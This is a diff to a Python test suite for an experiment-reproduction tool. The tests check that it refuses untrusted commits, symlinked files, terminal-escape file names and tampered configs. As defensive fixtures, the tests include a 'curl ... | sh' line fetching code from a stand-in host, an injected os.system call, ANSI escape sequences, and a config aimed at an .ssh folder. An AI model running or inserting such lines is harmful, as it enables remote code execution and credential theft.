@@ -70,10 +70,11 @@ def test_a_commit_that_is_not_40_hex_is_refused(repo, commit):
     assert not (repo / "pwned").exists()
 
 
-def test_an_unknown_commit_says_to_fetch_it(repo):
+def test_an_unknown_commit_says_to_update_the_branch_and_never_to_fetch_it(repo):
     missing = "0123456789abcdef0123456789abcdef01234567"
-    with pytest.raises(CannotReproduce, match=f"git fetch origin {missing}"):
+    with pytest.raises(CannotReproduce, match="git pull") as err:
         check_commit(repo, missing)
+    assert "fetch" not in str(err.value)  # a fetch by id takes a commit pushed to any fork
     blob = git(repo, "rev-parse", "HEAD:params.yaml").strip()  # an object, but not a commit
     with pytest.raises(CannotReproduce, match="is not a commit"):
         check_commit(repo, blob)
@@ -257,19 +258,29 @@ class Client:
         return str(self.folder / name)
 
 
+def run_of(config: dict, **tags: str):
+    """A run as write_params reads it: logged params (flattened, as strings) and tags."""
+    from scalelab.config import flatten
+
+    data = type("Data", (), {"params": {k: str(v) for k, v in flatten(config).items()}, "tags": tags})()
+    return type("Run", (), {"info": type("Info", (), {"run_id": "run"})(), "data": data})()
+
+
 def test_write_params_refuses_a_symlinked_params_yaml(tmp_path):
     (tmp_path / "store").mkdir()
-    (tmp_path / "store/config.json").write_text('{"train": {"lr": 0.1}}')
+    (tmp_path / "store/config.json").write_text('{"train": {"lr": 0.1, "launcher": "local"}}')
     worktree, target = tmp_path / "wt", tmp_path / "outside.yaml"
     worktree.mkdir()
     target.write_text("untouched\n")
     (worktree / "params.yaml").symlink_to(target)
+    run = run_of({"train": {"lr": 0.1, "launcher": "local"}})
     with pytest.raises(CannotReproduce, match="params.yaml is or goes through a symlink"):
-        write_params(Client(tmp_path / "store"), "run", worktree)
+        write_params(Client(tmp_path / "store"), run, worktree, tmp_path)
     assert target.read_text() == "untouched\n"
     (worktree / "params.yaml").unlink()
-    write_params(Client(tmp_path / "store"), "run", worktree)
-    assert (worktree / "params.yaml").read_text() == "train:\n  lr: 0.1\n"
+    write_params(Client(tmp_path / "store"), run, worktree, tmp_path)
+    expected = f"train:\n  lr: 0.1\n  launcher: local\nslurm:\n  folder: {tmp_path / 'slurm'}\n"
+    assert (worktree / "params.yaml").read_text() == expected
 
 
 def test_write_file_refuses_a_symlinked_parent_folder(tmp_path):
@@ -280,3 +291,89 @@ def test_write_file_refuses_a_symlinked_parent_folder(tmp_path):
     with pytest.raises(CannotReproduce, match="conf/params.yaml is or goes through a symlink in the worktree"):
         write_file(worktree, "conf/params.yaml", "x: 1\n")
     assert not (elsewhere / "params.yaml").exists()
+
+
+# --- what reproduce trusts (issue 32) -----------------------------------------------------------
+
+
+def test_a_dangling_commit_and_a_fork_like_ref_are_untrusted_and_need_consent(repo):
+    from scalelab.reproduce.guard import untrusted_commit
+
+    head = git(repo, "rev-parse", "HEAD").strip()
+    assert untrusted_commit(repo, head) is None  # on this repository's own branch
+    (repo / "libs/pkg/mod.py").write_text("import os; os.system('touch pwned')\n")
+    git(repo, "add", "-A")
+    dangling = git(repo, "commit-tree", git(repo, "write-tree").strip(), "-p", head, "-m", "evil").strip()
+    git(repo, "update-ref", "refs/remotes/fork/main", dangling)  # a fetched fork's branch
+    git(repo, "update-ref", "refs/pull/7/head", dangling)  # a fetched pull request
+    shown = untrusted_commit(repo, dangling)
+    assert shown is not None and "libs/pkg/mod.py" in shown and "evil" in shown, shown
+    with pytest.raises(CannotReproduce, match=f"the commit {dangling[:12]} is on no trusted branch or tag"):
+        confirm([], yes=False, interactive=False, commit=dangling)
+    confirm([], yes=True, interactive=False, commit=dangling)  # --yes: the user read the log
+    git(repo, "config", "--add", "scalelab.trustedRef", "refs/remotes/fork")  # trusted by choice
+    assert untrusted_commit(repo, dangling) is None
+
+
+def test_with_an_origin_only_its_default_branch_and_tags_are_trusted(repo, tmp_path):
+    from scalelab.reproduce.guard import untrusted_commit
+
+    origin = tmp_path / "origin.git"
+    git(repo, "clone", "-q", "--bare", str(repo), str(origin))
+    git(repo, "remote", "add", "origin", str(origin))
+    git(repo, "fetch", "-q", "origin")
+    git(repo, "remote", "set-head", "origin", "main")
+    (repo / "notes.txt").write_text("local only\n")
+    git(repo, "commit", "-qam", "unpushed")
+    local = git(repo, "rev-parse", "HEAD").strip()
+    assert untrusted_commit(repo, local) is not None  # on a local branch only: shown and asked
+    git(repo, "tag", "v1")
+    assert untrusted_commit(repo, local) is None  # a tag is trusted
+
+
+@pytest.mark.parametrize("path", ["slurm/profiles/local.yaml", "run.sh", "dvc.yaml", "Makefile"])
+def test_every_file_but_data_and_docs_counts_as_code(repo, path):
+    (repo / path).parent.mkdir(parents=True, exist_ok=True)
+    (repo / path).write_text('setup: ["curl -s https://example.invalid/x | sh"]\n')
+    changes = parse_diff(diff_of(repo), "dirty.diff")
+    assert "(code)" in summary("dirty.diff", changes)
+    with pytest.raises(CannotReproduce, match="pass --yes"):
+        confirm(changes, yes=False, interactive=False)
+
+
+def test_a_terminal_escape_in_a_file_name_is_printed_escaped(repo):
+    name = "notes\x1b[2K\x1b[1A.txt"  # would erase the line above on a terminal
+    (repo / name).write_text("x\n")
+    text = summary("untracked.diff", parse_diff(diff_of(repo), "untracked.diff"))
+    assert "\x1b" not in text and "notes\\x1b[2K\\x1b[1A.txt" in text, text
+
+
+@pytest.mark.parametrize(
+    "change, key",
+    [
+        ({"train": {"launcher": "slurm"}}, "train.launcher"),
+        ({"slurm": {"folder": "/home/alice/.ssh"}}, "slurm.folder"),
+        ({"train": {"lr": 0.2}}, "train.lr"),
+    ],
+)
+def test_a_tampered_config_json_is_refused(tmp_path, change, key):
+    import json
+
+    logged = {"train": {"lr": 0.1, "launcher": "local"}, "slurm": {"folder": "results/slurm"}}
+    tampered = {k: {**v, **change.get(k, {})} for k, v in logged.items()}
+    (tmp_path / "store").mkdir()
+    (tmp_path / "store/config.json").write_text(json.dumps(tampered))
+    (tmp_path / "wt").mkdir()
+    with pytest.raises(CannotReproduce, match=f"config.json sets {key} = .* the stored config was changed"):
+        write_params(Client(tmp_path / "store"), run_of(logged), tmp_path / "wt", tmp_path)
+    assert not (tmp_path / "wt/params.yaml").exists()
+    text = json.dumps(logged, indent=2, sort_keys=True)
+    (tmp_path / "store/config.json").write_text(text.replace("0.1", "0.10"))  # same values, other bytes
+    digest = hashlib.sha256(text.encode()).hexdigest()
+    with pytest.raises(CannotReproduce, match="provenance.config.sha256"):
+        write_params(
+            Client(tmp_path / "store"),
+            run_of(logged, **{"provenance.config.sha256": digest}),
+            tmp_path / "wt",
+            tmp_path,
+        )
